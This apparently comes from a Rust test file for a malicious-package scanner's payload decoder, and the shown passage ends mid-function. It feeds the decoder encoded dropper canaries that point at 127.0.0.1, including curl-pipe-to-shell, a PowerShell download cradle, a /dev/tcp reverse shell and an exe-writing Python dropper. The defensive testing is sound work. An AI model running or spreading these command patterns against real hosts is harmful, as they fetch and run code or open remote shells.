//! Tests for the payload decoder. Canaries are harmless strings shaped like real droppers
//! (they point at 127.0.0.1); marshal vectors come from compiling those canaries with CPython
//! 3.11 or are built by hand for the 2.7 and 3.8 layouts.

use super::*;
use std::io::Write;

const PY: &str = "import os\nos.system(\"curl http://127.0.0.1/x | sh\")\n";
const ONE_LINER: &str = "import os; os.system(\"curl http://127.0.0.1/x | sh\")";

/// `marshal.dumps(compile("import socket, subprocess\ns = socket.socket()\nexec('print(1)')\n",
/// "canary.py", "exec"))` under CPython 3.11.
const MARSHAL_311_HEX: &str = "630000000000000000000000000300000000000000f34a0000009700640064016c005a00640064016c015a01020065006a000000000000000000a6000000ab0000000000000000005a02020065036402a6010000ab0100000000000000000100640153002903e9000000004e7a087072696e742831292904da06736f636b6574da0a73756270726f63657373da0173da0465786563a900f300000000fa0963616e6172792e7079fa083c6d6f64756c653e7209000000010000007340000000f003010101d80019d00019d00019d00019d00019d00019d00019d00019d804118046844d814f844f8001d800048004805ad10010d40010d00010d00010d000107207000000";
/// `marshal.dumps(PY.encode())` (a marshalled bytes object).
const MARSHAL_BYTES_HEX: &str = "f334000000696d706f7274206f730a6f732e73797374656d28226375726c20687474703a2f2f3132372e302e302e312f78207c20736822290a";
/// `base64.b85encode(PY)`, `base64.a85encode(PY, adobe=True)`, `codecs.encode(PY, "uu")`.
const B85: &str = "X>D+Ca&#bXa|&;BE^~QvbY*QQB4c%OY#?ZKbZ|N^FEKJVE-)@IE-^27AbcQmXd)>J";
const A85: &str = "<~Bl.g-Ec`FBEsci,/ou;ZFCf;;,%Gb9C`mD5FDs8o0/54@/hen3/ho#(+FG;QBHel4~>";
const UU: &str = "begin 666 <data>\nM:6UP;W)T(&]S\"F]S+G-Y<W1E;2@B8W5R;\"!H=\'1P.B\\O,3(W+C N,\"XQ+W@@\n\'?\"!S:\"(I\"@  \n \nend\n";
/// `Fernet(base64.urlsafe_b64encode(bytes(range(32)))).encrypt(PY)`.
const FERNET_KEY: &str = "AAECAwQFBgcICQoLDA0ODxAREhMUFRYXGBkaGxwdHh8=";
const FERNET_TOKEN: &str = "gAAAAABrBtPYDRnhrEVLK6r11-67nrj28UyoOSzd2kj5gDirAR0ZuhKwn9T_1OtFChvrxCMdP9SwaimRws_yDBohrnOQ8LY8boVSO3rlyRVuhCAnNVQz9Ob0ql1dRJc6V6YA57tCyJw6MUYLI3KTx0Apvn3cDQKmEg==";
/// base64 of the UTF-16LE PowerShell canary
/// `IEX (New-Object Net.WebClient).DownloadString('http://127.0.0.1/x')`.
const PS_B64: &str = "SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAAOgAvAC8AMQAyADcALgAwAC4AMAAuADEALwB4ACcAKQA=";
/// A 1×1 PNG.
const PNG_B64: &str = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==";

fn lim() -> DecodeLimits {
    DecodeLimits::default()
}

fn b64(data: &[u8]) -> String {
    use base64::Engine;
    base64::engine::general_purpose::STANDARD.encode(data)
}

fn hexs(data: &[u8]) -> String {
    crate::hex::hex(data)
}

fn unhex(s: &str) -> Vec<u8> {
    base::hex(s.as_bytes(), usize::MAX).expect("valid test hex")
}

fn b32(data: &[u8]) -> String {
    const A: &[u8] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZ234567";
    let mut out = String::new();
    for chunk in data.chunks(5) {
        let mut buf = [0u8; 5];
        buf[..chunk.len()].copy_from_slice(chunk);
        let v = buf.iter().fold(0u64, |a, &b| a << 8 | u64::from(b));
        let digits = (chunk.len() * 8).div_ceil(5);
        for i in 0..8 {
            if i < digits {
                out.push(A[((v >> (35 - 5 * i)) & 31) as usize] as char);
            } else {
                out.push('=');
            }
        }
    }
    out
}

fn zlib_c(data: &[u8]) -> Vec<u8> {
    let mut e = flate2::write::ZlibEncoder::new(Vec::new(), flate2::Compression::default());
    e.write_all(data).expect("in-memory write");
    e.finish().expect("in-memory finish")
}

fn gzip_c(data: &[u8]) -> Vec<u8> {
    let mut e = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::default());
    e.write_all(data).expect("in-memory write");
    e.finish().expect("in-memory finish")
}

fn xz_c(data: &[u8]) -> Vec<u8> {
    let mut e = xz2::write::XzEncoder::new(Vec::new(), 6);
    e.write_all(data).expect("in-memory write");
    e.finish().expect("in-memory finish")
}

fn bz2_c(data: &[u8]) -> Vec<u8> {
    let mut e = bzip2::write::BzEncoder::new(Vec::new(), bzip2::Compression::default());
    e.write_all(data).expect("in-memory write");
    e.finish().expect("in-memory finish")
}

/// Deterministic pseudo-random bytes (xorshift64*).
fn noise(n: usize, seed: u64) -> Vec<u8> {
    let mut s = seed | 1;
    (0..n)
        .map(|_| {
            s ^= s >> 12;
            s ^= s << 25;
            s ^= s >> 27;
            (s.wrapping_mul(0x2545_f491_4f6c_dd1d) >> 56) as u8
        })
        .collect()
}

fn decode(s: &str) -> Option<Decoded> {
    decode_literal(s.as_bytes(), &lim())
}

fn assert_python(d: &Option<Decoded>, layers: &[Encoding]) {
    let d = d.as_ref().expect("decodes");
    assert_eq!(d.kind, PayloadKind::PythonSource, "{}", d.describe());
    assert_eq!(d.layers, layers, "{}", d.describe());
    assert!(d.text().is_some_and(|t| t.contains("os.system")), "{:?}", d.text());
}

// ---------------------------------------------------------------------------------------
// Malicious-shaped canaries, one per encoding

#[test]
fn base64_one_liner() {
    let d = decode(&b64(ONE_LINER.as_bytes()));
    assert_python(&d, &[Encoding::Base64]);
}

#[test]
fn base64_without_padding_and_wrapped() {
    let enc = b64(PY.as_bytes());
    let stripped = enc.trim_end_matches('=');
    assert_python(&decode(stripped), &[Encoding::Base64]);
    let wrapped: String = enc.as_bytes().chunks(20).map(|c| format!("    {}\n", String::from_utf8_lossy(c))).collect();
    assert_python(&decode(&wrapped), &[Encoding::Base64]);
}

#[test]
fn base64url_alphabet() {
    // Force URL-safe characters by prefixing bytes that encode to '-' / '_'.
    let mut payload = b"#\xfb\xff\n".to_vec();
    payload.extend_from_slice(PY.as_bytes());
    let url = b64(&payload).replace('+', "-").replace('/', "_");
    assert!(url.contains('-') || url.contains('_'));
    let d = decode_chain(url.as_bytes(), &[Encoding::Base64Url], &lim()).expect("decodes");
    assert!(d.text().is_none() || d.bytes.ends_with(PY.as_bytes()));
    assert!(d.bytes.ends_with(PY.as_bytes()));
}

#[test]
fn zlib_then_base64() {
    assert_python(&decode(&b64(&zlib_c(PY.as_bytes()))), &[Encoding::Base64, Encoding::Zlib]);
}

#[test]
fn nested_base64_zlib_base64() {
    let inner = b64(PY.as_bytes());
    let outer = b64(&zlib_c(inner.as_bytes()));
    assert_python(&decode(&outer), &[Encoding::Base64, Encoding::Zlib, Encoding::Base64]);
}

#[test]
fn gzip_lzma_bz2_behind_base64() {
    assert_python(&decode(&b64(&gzip_c(PY.as_bytes()))), &[Encoding::Base64, Encoding::Gzip]);
    assert_python(&decode(&b64(&xz_c(PY.as_bytes()))), &[Encoding::Base64, Encoding::Lzma]);
    assert_python(&decode(&b64(&bz2_c(PY.as_bytes()))), &[Encoding::Base64, Encoding::Bz2]);
}

#[test]
fn raw_compressed_bytes_literal() {
    // `exec(zlib.decompress(b'x\x9c…'))`: the literal is already binary.
    let d = decode_literal(&zlib_c(PY.as_bytes()), &lim());
    assert_python(&d, &[Encoding::Zlib]);
}

#[test]
fn reversed_base64_zlib_marshal() {
    // `marshal.loads(zlib.decompress(base64.b64decode(X[::-1])))`
    let code = unhex(MARSHAL_311_HEX);
    let s: String = b64(&zlib_c(&code)).chars().rev().collect();
    let d = decode(&s).expect("decodes");
    assert_eq!(d.kind, PayloadKind::MarshalCode);
    assert_eq!(d.layers, [Encoding::Reversed, Encoding::Base64, Encoding::Zlib]);
    let names = marshal_strings(&d.bytes, 50);
    for want in ["socket", "subprocess", "exec", "canary.py"] {
        assert!(names.iter().any(|n| n == want), "{want} missing from {names:?}");
    }
    assert!(d.snippet(200).starts_with("marshal code referencing: "), "{}", d.snippet(200));
    assert!(d.describe().starts_with("reversed → base64 → zlib → marshalled Python code ("), "{}", d.describe());
}

#[test]
fn gzip_marshal_raw_bytes() {
    let d = decode_literal(&gzip_c(&unhex(MARSHAL_311_HEX)), &lim()).expect("decodes");
    assert_eq!((d.kind, d.layers.as_slice()), (PayloadKind::MarshalCode, &[Encoding::Gzip][..]));
}

#[test]
fn bare_marshal_code_literal() {
    let d = decode_literal(&unhex(MARSHAL_311_HEX), &lim()).expect("marshal code is meaningful");
    assert_eq!(d.kind, PayloadKind::MarshalCode);
    assert!(d.layers.is_empty());
}

#[test]
fn marshalled_bytes_object_is_unwrapped() {
    let d = decode_literal(&unhex(MARSHAL_BYTES_HEX), &lim());
    assert_python(&d, &[Encoding::Marshal]);
    let d = decode_chain(&unhex(MARSHAL_BYTES_HEX), &[Encoding::Marshal], &lim());
    assert_python(&d, &[Encoding::Marshal]);
}

#[test]
fn base32_hex_base85_ascii85_uu() {
    assert_python(&decode(&b32(PY.as_bytes())), &[Encoding::Base32]);
    assert_python(&decode(&hexs(PY.as_bytes())), &[Encoding::Hex]);
    assert_python(&decode(&hexs(PY.as_bytes()).to_uppercase()), &[Encoding::Hex]);
    assert_python(&decode(B85), &[Encoding::Base85]);
    assert_python(&decode(A85), &[Encoding::Ascii85]);
    assert_python(&decode(UU), &[Encoding::Uu]);
}

#[test]
fn escaped_hex_text() {
    let s: String = PY.bytes().map(|b| format!("\\x{b:02x}")).collect();
    assert_python(&decode(&s), &[Encoding::Hex]);
}

#[test]
fn hex_of_base64_of_python() {
    let s = hexs(b64(PY.as_bytes()).as_bytes());
    assert_python(&decode(&s), &[Encoding::Hex, Encoding::Base64]);
}

#[test]
fn rot13_python() {
    let s = String::from_utf8(base::rot13(PY.as_bytes())).expect("ascii");
    assert_python(&decode(&s), &[Encoding::Rot13]);
}

#[test]
fn reversed_python_source() {
    let s: String = PY.chars().rev().collect();
    assert_python(&decode(&s), &[Encoding::Reversed]);
}

#[test]
fn powershell_encoded_command_in_shell_line() {
    let line = format!("powershell -WindowStyle Hidden -EncodedCommand {PS_B64}");
    let d = decode(&line).expect("embedded token decodes");
    assert_eq!(d.kind, PayloadKind::ShellCommand, "{}", d.describe());
    assert_eq!(d.layers, [Encoding::Base64, Encoding::Utf16Le]);
    assert!(d.text().is_some_and(|t| t.contains("DownloadString")));
}

#[test]
fn executables_behind_base64() {
    let mut elf = b"\x7fELF\x02\x01\x01\x00".to_vec();
    elf.extend_from_slice(&[0u8; 120]);
    let d = decode(&b64(&elf)).expect("decodes");
    assert_eq!((d.kind, d.layers.as_slice()), (PayloadKind::Executable("ELF"), &[Encoding::Base64][..]));
    assert!(d.snippet(20).starts_with("7f 45 4c 46"), "{}", d.snippet(20));

    let mut pe = vec![0u8; 0x100];
    pe[..2].copy_from_slice(b"MZ");
    pe[0x3c] = 0x80;
    pe[0x80..0x84].copy_from_slice(b"PE\0\0");
    let d = decode(&b64(&pe)).expect("decodes");
    assert_eq!(d.kind, PayloadKind::Executable("PE"));
    assert_eq!(d.describe(), "base64 → PE executable (256 B)");
}

#[test]
fn fernet_spec_vector() {
    let key = "cw_0x689RpI-jtRR7oE8h_eQsKImvJapLeSbXpwF4e4=";
    let token = "gAAAAAAdwJ6wAAECAwQFBgcICQoLDA0ODy021cpGVWKZ_eEwCGM4BLLF_5CV9dOPmrhuVUPgJobwOz7JcbmrR64jVmpU4IwqDA==";
    assert_eq!(fernet_decrypt(key.as_bytes(), token.as_bytes()).as_deref(), Some(&b"hello"[..]));
    assert!(looks_like_fernet_token(token.as_bytes()));
    // Wrong key: the HMAC check fails, no garbage comes out.
    assert_eq!(fernet_decrypt(FERNET_KEY.as_bytes(), token.as_bytes()), None);
    // Tampered token.
    let mut bad = token.as_bytes().to_vec();
    bad[30] = if bad[30] == b'A' { b'B' } else { b'A' };
    assert_eq!(fernet_decrypt(key.as_bytes(), &bad), None);
    assert_eq!(fernet_decrypt(b"short", token.as_bytes()), None);
    assert_eq!(fernet_decrypt(key.as_bytes(), b"gAAAAAnot-a-token"), None);
}

#[test]
fn fernet_dropper_decodes_to_python() {
    let d = decode_fernet(FERNET_KEY.as_bytes(), FERNET_TOKEN.as_bytes(), &lim());
    assert_python(&d, &[Encoding::Fernet]);
    // Without the key the token is opaque: recognised as a token, not decoded.
    assert!(looks_like_fernet_token(FERNET_TOKEN.as_bytes()));
    assert!(decode(FERNET_TOKEN).is_none_or(|d| !d.kind.is_code()));
    assert_eq!(decode_chain(FERNET_TOKEN.as_bytes(), &[Encoding::Fernet], &lim()), None);
}

#[test]
fn decode_chain_applies_given_layers_then_guesses() {
    // base64(zlib(base64(py))) with the detector knowing only the outer two calls.
    let inner = b64(PY.as_bytes());
    let outer = b64(&zlib_c(inner.as_bytes()));
    let d = decode_chain(outer.as_bytes(), &[Encoding::Base64, Encoding::Zlib], &lim());
    assert_python(&d, &[Encoding::Base64, Encoding::Zlib, Encoding::Base64]);
    // marshal.loads(zlib.decompress(base64.b64decode(X)))
    let x = b64(&zlib_c(&unhex(MARSHAL_311_HEX)));
    let d = decode_chain(x.as_bytes(), &[Encoding::Base64, Encoding::Zlib, Encoding::Marshal], &lim()).expect("decodes");
    assert_eq!((d.kind, d.layers.as_slice()), (PayloadKind::MarshalCode, &[Encoding::Base64, Encoding::Zlib][..]));
    // A failing step gives None; noise that the code decodes anyway is still reported.
    assert_eq!(decode_chain(b"not base64 at all!", &[Encoding::Base64], &lim()), None);
    assert_eq!(decode_chain(b"AAAAAAAA", &[Encoding::Base64, Encoding::Zlib], &lim()), None);
    let n = decode_chain(b64(&noise(64, 7)).as_bytes(), &[Encoding::Base64], &lim()).expect("chain applies");
    assert_eq!(n.kind, PayloadKind::Binary);
}

#[test]
fn decode_chain_rot13_and_reverse() {
    let rot = base::rot13(PY.as_bytes());
    assert_python(&decode_chain(&rot, &[Encoding::Rot13], &lim()), &[Encoding::Rot13]);
    let rev: String = b64(PY.as_bytes()).chars().rev().collect();
    assert_python(&decode_chain(rev.as_bytes(), &[Encoding::Reversed, Encoding::Base64], &lim()), &[Encoding::Reversed, Encoding::Base64]);
}

// ---------------------------------------------------------------------------------------
// Marshal parsing

/// Hand-built Python 2.7 module code object: `import os; os.system("id")`.
fn marshal_py27() -> Vec<u8> {
    let mut m = vec![b'c'];
    for v in [0i32, 0, 2, 0x40] {
        m.extend_from_slice(&v.to_le_bytes());
    }
    let s = |m: &mut Vec<u8>, t: u8, x: &[u8]| {
        m.push(t);
        m.extend_from_slice(&(x.len() as i32).to_le_bytes());
        m.extend_from_slice(x);
    };
    s(&mut m, b's', b"d\x00\x00d\x01\x00l\x00\x00");
    m.push(b'(');
    m.extend_from_slice(&2i32.to_le_bytes());
    m.push(b'N');
    s(&mut m, b's', b"id");
    m.push(b'(');
    m.extend_from_slice(&2i32.to_le_bytes());
    s(&mut m, b't', b"os");
    s(&mut m, b't', b"system");
    for _ in 0..3 {
        m.push(b'(');
        m.extend_from_slice(&0i32.to_le_bytes());
    }
    s(&mut m, b's', b"evil.py");
    s(&mut m, b't', b"<module>");
    m.extend_from_slice(&1i32.to_le_bytes());
    s(&mut m, b's', b"");
    m
}

/// Hand-built Python 3.8–3.10 layout (six leading ints, short ASCII strings, refs).
fn marshal_py38() -> Vec<u8> {
    let mut m = vec![0xe3];
    for v in [0i32, 0, 0, 0, 2, 0x40] {
        m.extend_from_slice(&v.to_le_bytes());
    }
    m.push(0x73);
    m.extend_from_slice(&4i32.to_le_bytes());
    m.extend_from_slice(b"d\x00S\x00");
    m.extend_from_slice(b")\x01N");
    m.extend_from_slice(b")\x02");
    for name in ["socket", "connect"] {
        m.push(0xda);
        m.push(name.len() as u8);
        m.extend_from_slice(name.as_bytes());
    }
    m.extend_from_slice(b")\x00)\x00)\x00");
    m.extend_from_slice(b"z\x05rs.py");
    m.extend_from_slice(b"Z\x08<module>");
    m.extend_from_slice(&1i32.to_le_bytes());
    m.extend_from_slice(b"r\x00\x00\x00\x00");
    m
}

#[test]
fn marshal_layouts_27_38_311() {
    let m27 = marshal_py27();
    assert!(marshal::looks_like_code(&m27));
    assert_eq!(classify(&m27), PayloadKind::MarshalCode);
    let s = marshal_strings(&m27, 10);
    assert_eq!(s, ["id", "os", "system", "evil.py", "<module>"]);

    let m38 = marshal_py38();
    assert!(marshal::looks_like_code(&m38));
    assert_eq!(marshal_strings(&m38, 10), ["socket", "connect", "rs.py", "<module>"]);

    let m311 = unhex(MARSHAL_311_HEX);
    assert!(marshal::looks_like_code(&m311));
    assert_eq!(marshal_strings(&m311, 2).len(), 2, "max is honoured");
}

#[test]
fn marshal_pyc_header_and_truncation() {
    let mut pyc = b"\xa7\r\r\n\0\0\0\0\0\0\0\0\0\0\0\0".to_vec();
    pyc.extend_from_slice(&unhex(MARSHAL_311_HEX));
    assert_eq!(classify(&pyc), PayloadKind::MarshalCode);
    assert!(marshal_strings(&pyc, 20).iter().any(|s| s == "subprocess"));
    // Truncated stream: collected names are kept, printable runs fill in, no panic.
    let m = unhex(MARSHAL_311_HEX);
    let cut = &m[..m.len() - 30];
    let s = marshal_strings(cut, 20);
    assert!(s.iter().any(|x| x == "socket"), "{s:?}");
    // Garbage: only printable runs, bounded.
    let mut junk = noise(4096, 3);
    junk[0] = 0xe3;
    assert!(marshal_strings(&junk, 5).len() <= 5);
    assert!(!marshal::looks_like_code(&junk));
    // Hostile counts and nesting do not panic or loop.
    let mut deep = vec![b'('; 0];
    for _ in 0..10_000 {
        deep.extend_from_slice(b")\x01");
    }
    assert!(marshal_strings(&deep, 5).is_empty());
    let huge = b"(\xff\xff\xff\x7f";
    assert!(marshal_strings(huge, 5).is_empty());
}

// ---------------------------------------------------------------------------------------
// Benign look-alikes

#[test]
fn digests_uuids_and_numbers_are_not_payloads() {
    let samples = [
        // sha256("") and sha512("abc") test vectors
        "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855",
        "ddaf35a193617abacc417349ae20413112e6fa4e89a97ea20a9eeee64b55d39a2192992a274fc1a836ba3c23a3feebbd454d4423643ce80e2a9ac94fa54ca49f",
        "123e4567-e89b-12d3-a456-426614174000",
        "12345678901234567890123456789012",
        "0123456789abcdef0123456789abcdef",
        "ThisIsAVeryLongCamelCaseIdentifierName",
        "https://example.com/some/long/path/to/a/resource?query=value",
        "AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA",
    ];
    for s in samples {
        assert_eq!(decode(s), None, "{s}");
    }
}

#[test]
fn random_base64_and_hex_noise_is_none() {
    for seed in 1..40 {
        let n = noise(48 + seed as usize * 7, seed);
        assert_eq!(decode(&b64(&n)), None, "seed {seed}");
        assert_eq!(decode(&hexs(&n)), None, "seed {seed}");
        let rev: String = b64(&n).chars().rev().collect();
        assert_eq!(decode(&rev), None, "seed {seed}");
    }
}

#[test]
fn png_icon_is_binary_not_code() {
    let d = decode(PNG_B64).expect("PNG is recognised");
    assert_eq!(d.kind, PayloadKind::Binary);
    assert!(!d.kind.is_code());
    let uri = format!("data:image/png;base64,{PNG_B64}");
    assert!(decode(&uri).is_none_or(|d| d.kind == PayloadKind::Binary));
}

#[test]
fn jwt_and_base64_text_are_text() {
    let jwt = "eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiIxMjM0NTY3ODkwIiwibmFtZSI6IkpvaG4gRG9lIn0";
    // The dot is outside every alphabet: no decode of the whole, parts decode to JSON text.
    assert!(decode(jwt).is_none_or(|d| d.kind == PayloadKind::Text));
    let d = decode(&b64(b"The quick brown fox jumps over the lazy dog, again and again.")).expect("text");
    assert_eq!(d.kind, PayloadKind::Text);
    assert_eq!(d.describe(), "base64 → text (61 B)");
}

const PROSE: &str = "Safe-pip reads every distribution before the installer sees it. \
    It looks at setup.py, the build hooks and the package's modules, and it reports what it found \
    with a reason a person can act on. Nothing is executed while this happens.";

const DOCSTRING: &str = "Download helper.\n\n    This module imports the configuration and calls the\n    \
    service when asked to. Use curl to fetch the installer if you prefer the command line.\n\n    \
    Example:\n        >>> import helper\n        >>> helper.fetch(url)\n";

#[test]
fn prose_and_docstrings_are_not_code() {
    for s in [PROSE, DOCSTRING, "Run `curl -sSL https://install.example.org | sh -` to install the tool on your machine."] {
        assert_eq!(decode(s), None, "{s}");
        assert_eq!(classify(s.as_bytes()), PayloadKind::Text, "{s}");
    }
    let d = decode(&b64(DOCSTRING.as_bytes())).expect("text decodes");
    assert_eq!(d.kind, PayloadKind::Text);
    assert_eq!(decode(&b64(PROSE.as_bytes())).map(|d| d.kind), Some(PayloadKind::Text));
}

#[test]
fn random_bytes_that_happen_to_be_utf8_are_not_text() {
    // 8 bytes of hex that decode to valid but meaningless CJK-range UTF-8.
    assert_eq!(decode("53e8948ce5a8b24c"), None);
    let cjk = "e8948ce5a8b2e4b883e4b88be4b889";
    assert_eq!(decode(cjk), None);
}

#[test]
fn text_starting_like_a_short_marshal_string_is_not_unwrapped() {
    // "z" + " " (= 32) + 32 characters has the shape of a marshal TYPE_SHORT_ASCII.
    let s = format!("z {}", "a = 1+8; #commented_out_thing()");
    assert_eq!(s.len(), 33);
    let s = format!("z {}", "a = 1+8; #commented_out_things()");
    assert_eq!(marshal::unwrap_string(s.as_bytes()), None);
    assert_eq!(decode(&s), None);
}

#[test]
fn python_with_embedded_binary_and_machine_spacing() {
    let dropper = "import os as o\nimport tempfile as t\np=o.path.join(t.gettempdir(),'x.exe')\n\
        if not o.path.exists(p):\n    with open(p, 'wb') as f:\n        f.write(b'MZ\\x90((((\\x00)')\n\
    o.startfile(p)\n";
    assert_eq!(classify(dropper.as_bytes()), PayloadKind::PythonSource);
    let minified = "import sys #line:2\nfrom os .path import join ,split #line:3\nfrom subprocess import Popen #line:4\n";
    assert_eq!(classify(minified.as_bytes()), PayloadKind::PythonSource);
}

#[test]
fn plain_python_literal_is_not_a_decoding() {
    // Source that is not encoded is for the detectors to parse, not a payload.
    assert_eq!(decode(PY), None);
}

// ---------------------------------------------------------------------------------------
// classify

#[test]
fn classify_code_and_commands() {
    assert_eq!(classify(ONE_LINER.as_bytes()), PayloadKind::PythonSource);
    assert_eq!(classify(b"from subprocess import Popen as P\nP(['id'])\n"), PayloadKind::PythonSource);
    assert_eq!(classify(b"def f(x):\n    return x + 1\n\nclass A:\n    pass\n"), PayloadKind::PythonSource);
    assert_eq!(classify(b"exec(__import__('base64').b64decode(x))"), PayloadKind::PythonSource);
    assert_eq!(classify(b"curl -s http://127.0.0.1/x | sh"), PayloadKind::ShellCommand);
    assert_eq!(classify(b"wget http://127.0.0.1/a -O /tmp/a && chmod +x /tmp/a && /tmp/a"), PayloadKind::ShellCommand);
    assert_eq!(classify(b"cmd /c start /b calc.exe"), PayloadKind::ShellCommand);
    assert_eq!(classify(b"powershell -nop -w hidden -c \"iex(iwr http://127.0.0.1)\""), PayloadKind::ShellCommand);
    assert_eq!(classify(b"bash -i >& /dev/tcp/127.0.0.1/4444 0>&1"), PayloadKind::ShellCommand);
    assert_eq!(classify(b"pip install requests & echo import os > \"x.pyw\" & start /b pythonw x.pyw"), PayloadKind::ShellCommand);
    assert_eq!(classify(b"To get started, run pip install safe-pip in a virtual environment."), PayloadKind::Text);
    assert_eq!(classify(b"hello world"), PayloadKind::Text);
    assert_eq!(classify(&noise(100, 9)), PayloadKind::Binary);
    assert_eq!(classify(b"import the data before you start"), PayloadKind::Text);
    assert_eq!(classify(b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR"), PayloadKind::Binary);
}

// ---------------------------------------------------------------------------------------
// Limits

#[test]
fn deep_nesting_stops_at_max_depth() {
    let mut s = PY.as_bytes().to_vec();
    for _ in 0..8 {
        s = b64(&s).into_bytes();
    }
    let d = decode_literal(&s, &lim()).expect("text after 4 layers");
    assert_eq!(d.layers.len(), 4);
    assert_eq!(d.kind, PayloadKind::Text);
    let deep = DecodeLimits { max_depth: 8, ..lim() };
    let d = decode_literal(&s, &deep).expect("decodes fully");
    assert_eq!(d.kind, PayloadKind::PythonSource);
    assert_eq!(d.layers, [Encoding::Base64; 8]);
}

#[test]
fn zlib_bomb_stops_at_max_output() {
    let mut e = flate2::write::ZlibEncoder::new(Vec::new(), flate2::Compression::best());
    let zeros = vec![0u8; 1 << 20];
    for _ in 0..32 {
        e.write_all(&zeros).expect("in-memory write");
    }
    let bomb = e.finish().expect("in-memory finish");
    let literal = b64(&bomb);
    let limits = DecodeLimits { max_output: 1 << 20, ..lim() };
    let d = decode_chain(literal.as_bytes(), &[Encoding::Base64, Encoding::Zlib], &limits).expect("chain applies");
    assert_eq!(d.bytes.len(), 1 << 20);
    assert!(d.bytes.capacity() <= 1 << 20, "capacity {}", d.bytes.capacity());
    assert_eq!(d.kind, PayloadKind::Binary);
    // Guessing does not report zeros as a payload.
    assert_eq!(decode_literal(literal.as_bytes(), &limits), None);
    // The bounded reader itself never holds more than the cap.
    let out = compress::zlib(&bomb, 4096).expect("prefix");
    assert_eq!(out.len(), 4096);
    assert!(out.capacity() <= 4096);
}

#[test]
fn min_input_and_empty() {
    assert_eq!(decode(""), None);
    assert_eq!(decode("aW1wb3J0IG9z"), None, "shorter than min_input");
    let small = DecodeLimits { min_input: 4, ..lim() };
    assert!(decode_literal(b"aW1wb3J0IG9zCm9zLnN5c3RlbSgnaWQnKQ==", &small).is_some());
}

#[test]
fn one_megabyte_of_noise_returns_none() {
    let big = b64(&noise(768 * 1024, 11));
    assert_eq!(decode(&big), None);
    let hex = hexs(&noise(512 * 1024, 12));
    assert_eq!(decode(&hex), None);
    assert_eq!(decode_literal(&noise(1 << 20, 13), &lim()), None);
}

#[test]
fn hostile_inputs_do_not_panic() {
    for s in [&b"===="[..], b"=", b"\\x", b"\\x4", b"<~~>", b"<~z", b"begin 666 x\n", b"begin 666 x\n\x7f\x7f\n", b"\xff\xfe", b"s\xff\xff\xff\xff", b"x\x9c", b"\x1f\x8b\x08\x00", b"BZh91AY&SY", b"\xfd7zXZ\x00\x00"] {
        let _ = decode_literal(s, &DecodeLimits { min_input: 1, ..lim() });
        for enc in [Encoding::Base64, Encoding::Base32, Encoding::Base85, Encoding::Ascii85, Encoding::Hex, Encoding::Zlib, Encoding::Gzip, Encoding::Lzma, Encoding::Bz2, Encoding::Uu, Encoding::Utf16Le, Encoding::Marshal, Encoding::Rot13, Encoding::Reversed] {
            let _ = decode_chain(s, &[enc], &lim());
        }
        let _ = marshal_strings(s, 10);
        let _ = classify(s);
    }
}

// ---------------------------------------------------------------------------------------
// Entropy and minified code

#[test]
fn entropy_values() {
    assert_eq!(shannon_entropy(b""), 0.0);
    assert_eq!(shannon_entropy(b"aaaa"), 0.0);
    let all: Vec<u8> = (0..=255).collect();
    assert!((shannon_entropy(&all) - 8.0).abs() < 1e-9);
    assert!((shannon_entropy(b"abab") - 1.0).abs() < 1e-9);
}

#[test]
fn high_entropy_literals() {
    assert!(is_high_entropy_literal(&b64(&noise(300, 5))));
    assert!(is_high_entropy_literal(&hexs(&noise(200, 6))));
    assert!(!is_high_entropy_literal(PROSE));
    assert!(!is_high_entropy_literal(&PROSE.replace(' ', "")));
    assert!(!is_high_entropy_literal("e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855"));
    assert!(!is_high_entropy_literal(&"ab".repeat(200)));
}

#[test]
fn minified_and_obfuscated_sources() {
    let packed = (0..300).map(|i| format!("a{i}=b{i}")).collect::<Vec<_>>().join(";");
    assert!(looks_minified(&packed));
    let lambdas = format!("x = {}", (0..60).map(|i| format!("(lambda q{i}: q{i}+1)(padding_value_{i:05})")).collect::<Vec<_>>().join(" + "));
    assert!(lambdas.len() > 2000);
    assert!(looks_minified(&lambdas));
    let hexnames = (0..30).map(|i| format!("_0x{:04x} = _0x{:04x}(1)\n", i * 7 + 4096, i * 3 + 8192)).collect::<String>();
    assert!(looks_minified(&hexnames));
    let confusable = (0..30).map(|i| format!("O0O{}OO0 = lIl{}Il(2)\n", "0O".repeat(i % 3 + 1), "lI".repeat(i % 4 + 1))).collect::<String>();
    assert!(looks_minified(&confusable));
    let underscores = (0..30).map(|i| format!("{} = {}(3)\n", "_".repeat(i % 9 + 4), "_".repeat(i % 7 + 5))).collect::<String>();
    assert!(looks_minified(&underscores));
    let cjk = (0..30).map(|i| format!("變數名稱很長的{i} = 函數名稱也很長的{i}(4)\n")).collect::<String>();
    assert!(looks_minified(&cjk));

    // CJK obfuscator: a few long random names among many ordinary ones.
    let mut mixed = String::new();
    for i in 0..12 {
        mixed.push_str(&format!("子水女馬人月刀人馬鳥山馬馬刀女人{i} = getattr(__builtins__, oct.__str__()[-3]).join(map(chr, data))\n"));
    }
    assert!(looks_minified(&mixed));

    let normal = "import os\n\n\ndef main(argv):\n    \"\"\"Entry point; parses args; runs.\"\"\"\n    for arg in argv:\n        print(arg)\n    return 0\n".repeat(20);
    assert!(!looks_minified(&normal));
    // A long data literal on one line is not minified code.
    let data_line = format!("ICON = \"{}\"\nprint(len(ICON))\n", b64(&noise(6000, 8)));
    assert!(!looks_minified(&data_line));
    // Semicolons inside strings do not count.
    let strings = format!("CSS = \"{}\"\n", "a{color:red;};".repeat(300));
    assert!(!looks_minified(&strings));
    // A few short Chinese identifiers are ordinary code.
    let zh = "名字 = 输入()\n打印(名字)\n".repeat(15);
    assert!(!looks_minified(&zh));
}

#[test]
fn snippet_is_one_printable_line() {
